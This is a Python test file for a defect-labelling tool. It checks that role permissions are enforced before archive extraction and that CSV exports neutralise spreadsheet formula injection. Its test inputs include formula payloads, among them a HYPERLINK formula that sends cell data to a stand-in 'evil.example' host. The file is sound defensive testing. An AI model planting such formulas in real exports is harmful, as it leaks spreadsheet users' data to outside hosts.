"""Hostile input (issue 10 items 10-13): roles before decoding, artifacts, CSV, importer limits."""

import zipfile

import numpy as np
import pytest

from defectlab.errors import PermissionDenied
from defectlab.imaging import encode_png


def _add_user(ws, name, role):
    with ws.transaction() as conn:
        conn.execute("INSERT INTO users (username, role, created_at) VALUES (?, ?, 't')", (name, role))


def _spy_decode(monkeypatch):
    """Count every decode and every zip extraction the importer does."""
    from defectlab.ingest import importer

    calls = []
    real_decode, real_extract = importer.decode_image, importer.safe_extract_zip
    monkeypatch.setattr(importer, "decode_image", lambda *a, **k: calls.append("decode") or real_decode(*a, **k))
    monkeypatch.setattr(importer, "safe_extract_zip",
                        lambda *a, **k: calls.append("extract") or real_extract(*a, **k))
    return calls


def test_role_is_checked_before_any_extract_or_decode(ws, tmp_path, monkeypatch):
    from defectlab.ingest import add_plate, import_source

    _add_user(ws, "viewer", "reviewer")  # may not import nor cut crops
    calls = _spy_decode(monkeypatch)
    z = tmp_path / "a.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("a/1.png", encode_png(np.zeros((8, 8), np.uint8)))
        zf.writestr("b/1.png", encode_png(np.ones((8, 8), np.uint8)))
    with pytest.raises(PermissionDenied):
        import_source(ws, "P", z, user="viewer")
    with pytest.raises(PermissionDenied):
        add_plate(ws, "P", encode_png(np.zeros((8, 8), np.uint8)), "plate.png", user="viewer")
    assert calls == []
    assert not any(ws.tmp_dir.glob("import-*"))


# ------------------------------------------------------------------ one CSV writer (item 12)

_EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
         "'=already", "''@x"]


def test_neutralise_is_reversible_and_inert():
    from defectlab.csvio import neutralise, unneutralise

    for s in [*_EVIL, "plain", "'quoted", "", "划痕", "a=b"]:
        out = neutralise(s)
        assert unneutralise(out) == s
        if s[:1] in "=+-@\t\r" and s:
            assert out.startswith("'")
    assert neutralise("plain") == "plain" and neutralise("'quoted") == "'quoted"
    assert unneutralise("'quoted") == "'quoted"  # a third-party apostrophe is kept
    assert neutralise(-1.5) == -1.5 and neutralise(None) == ""


def test_csv_text_has_bom_crlf_and_no_live_formula():
    import csv
    import io

    from defectlab.csvio import csv_text

    text = csv_text(["file", "n"], [[s, i] for i, s in enumerate(_EVIL)])
    assert text.startswith("\ufeff") and "\r\n" in text
    for row in list(csv.reader(io.StringIO(text[1:])))[1:]:
        assert row[0][0] not in "=+-@\t\r"


def _no_library_csv_writer():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    hits = []
    for p in [root / "app.py", *sorted((root / "defectlab").rglob("*.py"))]:
        if p.name == "csvio.py":
            continue
        text = p.read_text(encoding="utf-8")
        hits += [f"{p.name}: {m.group(0)}" for m in re.finditer(r"csv\.writer|DictWriter|\.to_csv\(", text)]
    return hits


def test_every_csv_goes_through_csvio():
    assert _no_library_csv_writer() == []


def test_export_and_predictions_csv_are_inert_and_reimport_with_the_same_labels(ws, tmp_path):
    import csv

    from defectlab.export import export_project
    from defectlab.ingest import import_source
    from defectlab.store import current_labels, get_project

    evil = '=HYPERLINK("evil.example","y")'
    src = tmp_path / "src"
    rng = np.random.default_rng(0)
    for label in ("-minus", "@at"):
        (src / label).mkdir(parents=True)
        for k in range(3):
            name = f"{evil}{k}.png" if label == "-minus" else f"+{k}.png"
            (src / label / name).write_bytes(encode_png(rng.integers(0, 255, (16, 16), dtype=np.uint8)))
    rep = import_source(ws, "P", src)
    assert rep.imported == 6
    out = tmp_path / "exp"
    export_project(ws, "P", "csv", out)
    raw = (out / "labels.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+-@\t\r", v
    assert {r["label"] for r in rows} == {"'-minus", "'@at"}
    # re-import of the export: same labels as stored
    rep2 = import_source(ws, "Q", out)
    assert rep2.imported == 6 and not rep2.rejected
    before = current_labels(ws, get_project(ws, "P").id)
    after = current_labels(ws, get_project(ws, "Q").id)
    assert sorted(s.label for s in before.values()) == sorted(s.label for s in after.values())
    assert {s.label for s in after.values()} == {"-minus", "@at"}
